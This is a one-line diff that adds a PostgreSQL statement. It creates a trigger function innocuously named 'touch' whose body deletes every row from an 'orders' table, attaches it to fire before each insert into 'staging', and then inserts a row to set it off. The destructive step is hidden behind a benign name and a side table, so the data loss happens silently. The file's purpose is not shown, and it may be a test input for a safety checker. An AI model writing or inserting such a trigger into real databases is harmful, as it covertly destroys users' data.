@@ -1,0 +1,1 @@
+CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS 'begin delete from orders; return new; end'; CREATE TRIGGER touch BEFORE INSERT ON staging FOR EACH ROW EXECUTE FUNCTION touch(); INSERT INTO staging VALUES (1)
